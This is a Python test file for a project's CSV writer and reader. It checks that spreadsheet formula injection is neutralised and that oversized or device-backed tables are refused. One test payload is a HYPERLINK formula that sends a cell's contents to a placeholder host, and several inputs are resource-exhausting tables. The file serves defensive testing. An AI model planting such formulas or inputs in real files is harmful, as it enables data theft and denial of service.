"""Tables: what is exported is no formula, what is read has limits."""

import ast
import csv
import io
import os
import sys
import time
import unicodedata
from pathlib import Path

import numpy as np
import pytest

import transcnn
from transcnn.course.learned import ItemAnswer, as_csv, read_answers
from transcnn.errors import FolderError, TableTooLarge
from transcnn.evaluation.tables import rows_of
from transcnn.figures.table import plain_cell, safe_cell, to_csv
from transcnn.runs.labelled import find_items

FORMULA = 'HYPERLINK("http://x/?"&A1)'
SIGNS = "=+-@"


def cells(text, delimiter=","):
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


@pytest.mark.parametrize(
    "before", ["", " ", "\t", "\r", "\n", "\xa0", "\u3000", "\u200b", "\ufeff", "'"]
)
@pytest.mark.parametrize("sign", [*SIGNS, "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"])
def test_no_text_is_a_formula_in_any_spreadsheet(before, sign):
    text = to_csv(["note"], [[before + sign + FORMULA]])

    (_, (cell,)) = cells(text)
    bare = unicodedata.normalize("NFKC", cell).lstrip()
    assert bare[:1] not in (*SIGNS, "\u2212")


@pytest.mark.parametrize("apart", [";", "\t", "\n", ';"', "; ", "\r\n"])
def test_no_text_is_a_formula_where_cells_are_parted_otherwise(apart):
    text = to_csv(["a", "b"], [["x", f"y{apart}={FORMULA}"]])

    for delimiter in ",;\t":
        for row in cells(text, delimiter):
            for cell in row:
                assert cell.lstrip(' "')[:1] not in tuple(SIGNS)


def test_every_sign_that_unicode_has_for_a_formula_is_known():
    for code in range(sys.maxunicode + 1):
        character = chr(code)
        if unicodedata.normalize("NFKC", character)[:1] in (*SIGNS, "\u2212"):
            assert safe_cell(f"{character}x")[0] == "'", hex(code)


@pytest.mark.parametrize(
    "text", ["\n" * (31 << 20), "a,b\n" + "1,2\n" * (7 << 20), 'a,b\n"' + "x\n" * (15 << 20)]
)
def test_a_table_of_millions_of_lines_is_refused_in_a_moment(text):
    begin = time.process_time()

    with pytest.raises(FolderError):
        list(rows_of(text, Path("t.csv"), 20_000))

    assert time.process_time() - begin < 1


def test_empty_lines_and_line_ends_in_cells_are_no_rows():
    text = "a,b\n\n\n" + '"1\n2\n3",4\n\n' * 3

    assert [cells for _, cells in rows_of(text, Path("t.csv"), 3)] == [
        ["a", "b"],
        *[["1\n2\n3", "4"]] * 3,
    ]


def test_numbers_stay_numbers():
    values = [-1, -2.5, +3, True, np.float32(-0.5), np.int64(-7), "-1", "+1.5e-3", "-inf", None]

    assert to_csv(["a"], [[value] for value in values]).split("\n")[1:-1] == [
        *("-1", "-2.5", "3", "True", "-0.5", "-7", "-1", "+1.5e-3", "-inf", '""')
    ]


def test_control_characters_are_visible_and_line_breaks_of_notes_stay():
    assert safe_cell("a\x1b[31m\u202eb\nc") == "a\\x1b[31m\\u202eb\nc"


def test_what_was_written_is_read_again():
    answers = [ItemAnswer("=1+1", "before", "A1", "x", "people")]
    assert plain_cell(safe_cell("=1+1")) == "=1+1"
    assert plain_cell("'tis") == "'tis"

    (row,) = cells(as_csv(answers))[1:]

    assert row[0] == "'=1+1"


def test_a_class_that_is_called_like_a_formula_is_found_again(tmp_path):
    from transcnn.labels import Classes

    table = tmp_path / "t.csv"
    table.write_text(to_csv(["file", "label"], [["a.jpg", "=cat"], ["-b.jpg", "+dog"]]))

    items = find_items(table, classes=Classes(2, own=("=cat", "+dog")))

    assert [(item.name, item.labels) for item in items] == [("-b.jpg", (1,)), ("a.jpg", (0,))]


def test_no_other_place_writes_tables():
    """csv.writer, csv.DictWriter and pandas' to_csv are called in figures/table.py alone."""
    root = Path(transcnn.__file__).parent
    found = []
    for path in root.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            name = getattr(node, "attr", getattr(node, "id", ""))
            imported = isinstance(node, ast.ImportFrom) and node.module == "csv"
            method = isinstance(node, ast.Attribute) and node.attr == "to_csv"
            if name in ("writer", "DictWriter") or imported or method:
                found.append(path.relative_to(root).as_posix())

    assert set(found) == {"figures/table.py"}


@pytest.fixture
def table(tmp_path):
    def write(text, name="labels.csv"):
        path = tmp_path / name
        path.write_text(text, encoding="utf-8")
        return path

    return write


def test_a_visitors_table_has_as_many_rows_as_an_archive_has_files(table):
    """2 million rows of files that are not there took a core for minutes."""
    path = table("file,label\n" + "f,0\n" * 2_000_000)
    began = time.process_time()

    with pytest.raises(TableTooLarge, match="20000 rows"):
        find_items(path, within=path.parent)

    assert time.process_time() - began < 4


@pytest.mark.parametrize(
    "text",
    {
        "columns": "file,label" + ",x" * 200 + "\n",
        "cells": "file,label\na.jpg," + "0" * 5000 + "\n",
        "a line": "file,label\n" + "," * 1_000_000 + "\n",
        "a column's name": "file,label," + "x" * 5000 + "\n",
        "quoted": 'file,label\n"' + ("x" * 100 + "\n") * 100 + '",0\n',
        "bytes": "file,label\n" + "a" * (33 * 2**20),
    }.values(),
)
def test_columns_and_cells_of_a_table_have_a_size(table, text):
    with pytest.raises(TableTooLarge):
        find_items(table(text))


@pytest.mark.skipif(os.name == "nt", reason="Windows has no such file")
def test_a_device_is_no_table(tmp_path):
    (tmp_path / "zero.csv").symlink_to("/dev/zero")

    with pytest.raises(FolderError, match="there is no such file"):
        find_items(tmp_path / "zero.csv")


def test_answers_of_a_course_have_limits_too():
    head = "learner,time,item,answer,source\n"

    with pytest.raises(TableTooLarge):
        read_answers(head + "a" * 30_000, "x.csv")


def test_the_operator_can_lower_the_rows(table, monkeypatch):
    monkeypatch.setenv("TRANSCNN_LIMIT_VISITOR_ROWS", "2")
    path = table("file,label\na,0\nb,0\nc,0\n")

    assert len(find_items(path)) == 3
    with pytest.raises(TableTooLarge, match=" 2 rows"):
        find_items(path, within=path.parent)
